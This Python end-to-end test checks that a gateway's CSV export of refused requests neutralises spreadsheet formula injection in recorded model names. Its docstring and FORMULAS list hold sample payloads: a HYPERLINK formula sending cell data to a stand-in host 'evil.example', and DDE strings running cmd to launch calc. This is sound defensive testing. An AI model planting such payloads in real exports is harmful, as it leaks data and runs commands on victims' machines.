"""A CSV export never hands a spreadsheet a formula a customer wrote.

The decision log records what the client sent as the model name, refused or
not, and an auditor opens the CSV export in a spreadsheet. A cell starting
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read there as a
formula (CSV injection, CWE-1236): ``=HYPERLINK("https://evil/?"&A2, ...)``
sends the row's neighbours away on a click, DDE payloads run commands. Such a
cell is exported with a leading ``'``, which spreadsheets show as text; the
JSONL export and the hashed record keep the value as sent.
"""

from __future__ import annotations

import csv
import io

import httpx
import orjson
import pytest

from tests.e2e.conftest import US_IP
from tests.support.processes import Admin, Proc

pytestmark = pytest.mark.e2e

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A2,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
]


def test_a_formula_in_a_recorded_model_name_is_exported_as_text(
    gateway: Proc, admin: Admin, enterprise_key: str
) -> None:
    for model in FORMULAS:
        response = httpx.post(
            f"{gateway.url}/v1/chat/completions",
            json={"model": model, "messages": [{"role": "user", "content": "hi"}]},
            headers={"x-forwarded-for": US_IP, "authorization": f"Bearer {enterprise_key}"},
            timeout=10,
        )
        assert response.status_code == 403, response.text  # an unknown model: refused, recorded
    exported = admin.http.get("/admin/v1/decisions/export", params={"format": "csv"})
    assert exported.status_code == 200, exported.text
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    models = [row["model"] for row in rows if row["model"] not in ("", "haiku-lite")]
    assert models == ["'" + model for model in FORMULAS]
    # The record itself, and the JSONL export, keep the name as it was sent.
    assert [orjson.loads(row["record"])["model"] for row in rows[-4:]] == FORMULAS
    jsonl = admin.http.get("/admin/v1/decisions/export", params={"format": "jsonl"}).text
    lines = [orjson.loads(line) for line in jsonl.splitlines()]
    assert [line.get("model") for line in lines if line.get("model") in FORMULAS] == FORMULAS
